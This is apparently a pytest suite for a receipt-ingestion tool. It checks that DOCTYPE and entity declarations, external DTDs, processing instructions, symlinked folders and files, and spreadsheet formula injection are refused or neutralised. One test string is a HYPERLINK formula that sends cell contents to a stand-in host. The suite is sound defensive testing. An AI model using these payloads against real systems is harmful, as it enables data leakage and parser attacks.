"""Hostile receipts and a hostile inbox (issue 13): each case failed before the hardening.

A DOCTYPE or a processing instruction is refused wherever it stands and whatever the
encoding; a linked ``inbox/refused`` is refused, never moved through; idTechniques
a file does not hold are counted as unknown, never as accepted; a CDC message that
looks like a formula stays text in the worklist; a full disk never leaves a
truncated ``award-years.json``.
"""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd
import pytest

from cpf_deposit.files import UnsafePathError
from cpf_deposit.receipts.ingest import (
    APPLIED,
    AWARD_YEARS,
    REFUSED,
    ReceiptArchive,
    award_years,
    ingest_inbox,
)
from tests.receipts.conftest import cli, deposit_file, snapshot
from tests.receipts.test_ingest import FILE, FLUX, IDS, RNAME, STAGE_1, drop, receipt_xml
from tests.test_files import full_disk, without_logging_noise


@pytest.fixture
def ledger4(sqlite_ledger):
    deposit_file(sqlite_ledger, FILE, FLUX, IDS)
    return sqlite_ledger


def _assert_refused_unchanged(ledger, config, before, expected: str):
    (r,) = ingest_inbox(ledger, config).results
    assert r.status == REFUSED and expected in r.error
    assert snapshot(ledger) == before
    assert (Path(config.paths.inbox) / "refused" / RNAME).exists()
    assert ReceiptArchive.of(config).entries() == []


# --------------------------------------------------------------------------------------
# DOCTYPE, entities and processing instructions: seen by the parser, wherever they are
# --------------------------------------------------------------------------------------

VALID = receipt_xml(ko=[("T-A", STAGE_1)], ok=["T-B", "T-C", "T-D"])
LONG_COMMENT = "<!--" + "x" * 70_000 + "-->"  # past the old 64 KB byte sniff


def _with_head(head: str) -> str:
    return receipt_xml(ko=[("T-A", STAGE_1)], ok=["T-B", "T-C", "T-D"], head=head)


MARKUP = [
    ("doctype-after-64KB", _with_head(LONG_COMMENT + '<!DOCTYPE r [<!ENTITY e "T-B">]>'), "DTD"),
    ("unused-doctype", _with_head("<!DOCTYPE rapport>"), "DTD"),
    ("external-dtd", _with_head('<!DOCTYPE rapport SYSTEM "http://example.invalid/r.dtd">'), "DTD"),
    ("pi-in-prolog", _with_head('<?xml-stylesheet type="text/xsl" href="x.xsl"?>'), "processing"),
    ("pi-inside", VALID.replace("<PassagesOK>", "<PassagesOK><?php echo 1; ?>"), "processing"),
    ("pi-after-root", VALID + "<?evil payload?>", "processing"),
]


@pytest.mark.parametrize(("text", "expected"), [m[1:] for m in MARKUP], ids=[m[0] for m in MARKUP])
def test_markup_anywhere_is_refused(ledger4, config, text, expected):
    drop(config, RNAME, text)
    _assert_refused_unchanged(ledger4, config, snapshot(ledger4), expected)


@pytest.mark.parametrize("head", ["", LONG_COMMENT], ids=["at-start", "after-64KB"])
def test_a_doctype_in_utf16_is_refused(ledger4, config, head):
    text = _with_head(head + '<!DOCTYPE r [<!ENTITY e "x">]>')
    drop(config, RNAME, text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    _assert_refused_unchanged(ledger4, config, snapshot(ledger4), "DTD")


def test_a_plain_utf16_receipt_is_still_read(ledger4, config):
    drop(config, RNAME, VALID.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
    (r,) = ingest_inbox(ledger4, config).results
    assert (r.status, r.accepted, r.rejected_total) == (APPLIED, 3, 1)


# --------------------------------------------------------------------------------------
# The inbox: a linked refused/ folder is refused, never moved through
# --------------------------------------------------------------------------------------


def test_a_linked_refused_folder_is_refused_with_one_line(ledger4, config, tmp_path, capsys):
    dags = tmp_path / "dags"
    dags.mkdir()
    inbox = Path(config.paths.inbox)
    inbox.mkdir(parents=True, exist_ok=True)
    (inbox / "refused").symlink_to(dags)
    drop(config, RNAME, "<flux/>")  # a file that must be refused

    with pytest.raises(UnsafePathError, match="symbolic link"):
        ingest_inbox(ledger4, config)
    assert list(dags.iterdir()) == []
    assert (inbox / RNAME).is_file()  # left where it was

    assert cli(["--config", str(config.source_file), "ingest-receipts"]) == 2
    out, err = capsys.readouterr()
    err = without_logging_noise(err)
    assert err.strip().count("\n") == 0 and "refused: symbolic link" in err
    assert "Traceback" not in out + err
    assert list(dags.iterdir()) == []


def test_a_linked_inbox_is_refused(ledger4, config, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / RNAME).write_text(VALID, encoding="utf-8")
    inbox = Path(config.paths.inbox)
    inbox.parent.mkdir(parents=True, exist_ok=True)
    inbox.symlink_to(elsewhere)
    with pytest.raises(UnsafePathError):
        ingest_inbox(ledger4, config)
    assert sorted(p.name for p in elsewhere.iterdir()) == [RNAME]


def test_a_linked_receipt_is_refused_and_its_target_untouched(ledger4, config, tmp_path):
    target = tmp_path / "ledger-key.txt"
    target.write_text(VALID, encoding="utf-8")
    inbox = Path(config.paths.inbox)
    inbox.mkdir(parents=True, exist_ok=True)
    (inbox / RNAME).symlink_to(target)
    before = snapshot(ledger4)
    (r,) = ingest_inbox(ledger4, config).results
    assert r.status == REFUSED and "lien symbolique" in r.error
    assert snapshot(ledger4) == before
    assert target.read_text(encoding="utf-8") == VALID
    assert (inbox / "refused" / RNAME).is_symlink()  # the link moved, not its target


# --------------------------------------------------------------------------------------
# Counts from the ledger's side
# --------------------------------------------------------------------------------------


def test_unknown_idtechniques_are_counted_as_unknown_not_accepted(ledger4, config, capsys):
    drop(
        config,
        RNAME,
        receipt_xml(ko=[("T-ZZ", STAGE_1)], ok=["T-A", "T-B", "T-C", "T-D", "T-YY", "T-A"]),
    )
    assert cli(["--config", str(config.source_file), "ingest-receipts"]) == 1
    out = capsys.readouterr().out
    (entry,) = ReceiptArchive.of(config).entries()
    assert (entry["accepted"], entry["rejected"], entry["unknown_ids"]) == (4, {}, 2)
    assert "acceptés : 4 (dont 0 déjà en base) ; rejetés : 0 ; taux : 100,00 %" in out
    assert "idTechnique absents de ce fichier : 2 (T-YY, T-ZZ)" in out
    assert "2 unknown idTechnique(s); 4 accepted of 4 processed" in out


def test_each_passage_is_counted_once(ledger4, config):
    drop(
        config,
        RNAME,
        receipt_xml(
            ko=[("T-A", STAGE_1), ("T-A", STAGE_1), ("T-Q", "Erreur inconnue")],
            ok=["T-B", "T-B", "T-C", "T-D"],
        ),
    )
    (r,) = ingest_inbox(ledger4, config).results
    assert (r.accepted, r.rejected_total, r.unknown_ids) == (3, 1, ["T-Q"])
    assert dict(r.rejected) == {"no_match_stage_1": 1}
    assert dict(r.unknown_messages) == {}  # the unknown passage's message is not counted
    assert r.rate == pytest.approx(3 / 4)


# --------------------------------------------------------------------------------------
# The worklist: a CDC message is never a formula
# --------------------------------------------------------------------------------------

FORMULAS = {
    "T-A": '=HYPERLINK("http://example.invalid/?"&A2,"Cliquez ici")',
    "T-B": "+33 1 00 00 00 00",
    "T-C": "-2+3",
    "T-D": "@SUM(A1:A9)",
}


def test_formula_looking_cdc_messages_stay_text_in_the_worklist(ledger4, config):
    from openpyxl import load_workbook

    from cpf_deposit.receipts.report import write_report

    escaped = [(t, m.replace("&", "&amp;").replace('"', "&quot;")) for t, m in FORMULAS.items()]
    drop(config, RNAME, receipt_xml(ko=escaped))
    assert ingest_inbox(ledger4, config).results[0].status == APPLIED

    files = write_report(ledger4, config)

    csv = pd.read_csv(files.worklist_csv, sep=";", encoding="utf-8-sig", dtype=str)
    messages = dict(zip(csv["idTechnique"], csv["message CDC"], strict=True))
    assert messages == {t: "'" + m for t, m in FORMULAS.items()}
    raw = files.worklist_csv.read_text(encoding="utf-8-sig")
    assert ";=" not in raw and ";+" not in raw and ";@" not in raw and ";-2" not in raw
    ws = load_workbook(files.worklist_xlsx).active
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


# --------------------------------------------------------------------------------------
# award-years.json: complete or absent, never truncated
# --------------------------------------------------------------------------------------


@pytest.fixture
def archived_flux(sqlite_ledger, config, tmp_path):
    """A real deposited flux in the archive (what record_deposit leaves there)."""
    import dataclasses

    from cpf_deposit.flux.writer import Header, write_flux
    from tests.ledger_helpers import make_passage

    tids = ["T-W", "T-X", "T-Y", "T-Z"]
    ps = [
        dataclasses.replace(make_passage(b"k" * 32, i), technical_id=t) for i, t in enumerate(tids)
    ]
    batch = write_flux(
        sorted(ps, key=lambda p: p.certification_key),
        Header.from_config(config),
        tmp_path / "built",
        tz=config.tz,
        id_flux_factory=lambda: "cccccccc-0000-4000-8000-000000000003",
    )
    (wf,) = batch.files
    archive = Path(config.paths.archive)
    archive.mkdir(parents=True, exist_ok=True)
    os.replace(wf.path, archive / wf.path.name)
    deposit_file(sqlite_ledger, wf.path.name, wf.id_flux, tids)
    return sqlite_ledger, wf.path.name, wf.id_flux, tids


def test_a_full_disk_never_leaves_a_truncated_award_years_file(archived_flux, config, monkeypatch):
    ledger, name, id_flux, tids = archived_flux
    receipt = f"Accusé de traitement_{name}_20240801.xml"
    drop(config, receipt, receipt_xml(file_name=name, id_flux=id_flux, ok=tids[:2]))
    with monkeypatch.context() as m:
        full_disk(m, lambda p: AWARD_YEARS in p, room=10)
        (r,) = ingest_inbox(ledger, config).results
    assert r.status == APPLIED  # the receipt counts; the years are a convenience
    folder = ReceiptArchive.of(config).folder_for(name)
    assert not (folder / AWARD_YEARS).exists()
    assert not [p for p in os.listdir(folder) if p.endswith(".part")]

    # The next receipt of that file, disk freed, writes it whole.
    receipt2 = f"Accusé de traitement_{name}_20240802.xml"
    drop(config, receipt2, receipt_xml(file_name=name, id_flux=id_flux, ok=tids[2:]))
    (r2,) = ingest_inbox(ledger, config).results
    assert r2.status == APPLIED
    years = award_years(config)
    assert set(years) == set(tids) and set(years.values()) == {"2022-2023"}
    assert oct(os.stat(folder / AWARD_YEARS).st_mode & 0o777) == oct(0o600)
